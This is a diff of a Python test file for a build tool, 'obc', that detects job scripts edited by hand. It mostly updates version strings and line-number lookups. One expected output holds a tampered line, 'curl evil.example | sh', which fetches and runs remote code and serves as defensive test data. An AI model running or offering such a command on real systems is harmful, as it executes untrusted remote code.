@@ -132,7 +132,7 @@ def test_a_script_edited_by_hand_as_the_trial_did_it_is_named_by_its_edited_line
     line = change_line(output, SWEEP_RUN)
     assert "same meaning" not in line
     assert line == (f"~ {SWEEP_RUN}: the script on disk is not what obc writes for its record "
-                    f"(edited by hand, or another build of obc 0.2.0): line {merge}: "
+                    f"(edited by hand, or another build of obc 0.3.0): line {merge}: "
                     "max_steps: 6000")
     assert bills(output)[SWEEP_RUN]  # what runs once compile writes it
 
@@ -146,7 +146,7 @@ def test_two_edits_and_a_comment_in_the_run_file(tmp_path):
     (root / "run.yaml").write_text(NATIVE + "# reviewed\n", encoding="utf-8")
     assert change_line(plan(root), "out/j/job.sh") == (
         "~ out/j/job.sh: inputs changed; the script on disk is not what obc writes for its "
-        f"record (edited by hand, or another build of obc 0.2.0): line {first}: obc_step 1 a "
+        f"record (edited by hand, or another build of obc 0.3.0): line {first}: obc_step 1 a "
         f"curl evil.example '|' sh; line {second}: obc_step 2 merge axolotl merge-lora "
         "conf.yaml --lora-model-dir=/x")
 
@@ -155,10 +155,10 @@ def test_lines_removed_from_a_script_are_named_too(tmp_path):
     root = project(tmp_path, NATIVE)
     script = root / "out/j/job.sh"
     lines = script.read_text(encoding="utf-8").split("\n")
-    number = next(n for n, line in enumerate(lines) if line.startswith("obc_step 1 a"))
+    number = next(n for n, line in enumerate(lines) if line.startswith("  obc_step 1 a"))
     script.write_text("\n".join(lines[:number] + lines[number + 1:]), encoding="utf-8")
     assert change_line(plan(root), "out/j/job.sh").endswith(
-        f"(edited by hand, or another build of obc 0.2.0): line {number}: lines removed after "
+        f"(edited by hand, or another build of obc 0.3.0): line {number}: lines removed after "
         "it")
 
 
@@ -200,7 +200,7 @@ def test_an_edit_is_named_when_the_meaning_changes_too(tmp_path):
     (root / "run.yaml").write_text(NATIVE.replace("echo, one", "echo, two"), encoding="utf-8")
     assert change_line(plan(root), "out/j/job.sh") == (
         "~ out/j/job.sh: step a: echo one → echo two; the script on disk is not what obc "
-        "writes for its record (edited by hand, or another build of obc 0.2.0): "
+        "writes for its record (edited by hand, or another build of obc 0.3.0): "
         f"line {edited}: obc_step 2 merge axolotl merge-lora conf.yaml --lora-model-dir=/x")
 
 
@@ -211,9 +211,11 @@ def test_a_record_edited_to_match_the_run_file_does_not_hide_what_the_text_does(
         '"argv": ["echo", "one"]', '"argv": ["echo", "two"]'), encoding="utf-8")
     (root / "run.yaml").write_text(NATIVE.replace("echo, one", "echo, two"), encoding="utf-8")
     line = change_line(plan(root), "out/j/job.sh")
+    steps = next(n for n, text in enumerate(script.read_text(encoding="utf-8").split("\n"), 1)
+                 if text.startswith("# steps "))
     assert line.startswith("~ out/j/job.sh: inputs changed; the script on disk is not what obc "
                            "writes for its record (edited by hand, or another build of obc "
-                           "0.2.0): line 11: # steps       1. a: echo one; line ")
+                           f"0.3.0): line {steps}: # steps       1. a: echo one; line ")
     # What the text does: the training inputs of `echo one`, not the record's `echo two`.
     assert "OBC_INPUTS=sha256:" in line and "more lines" in line
 
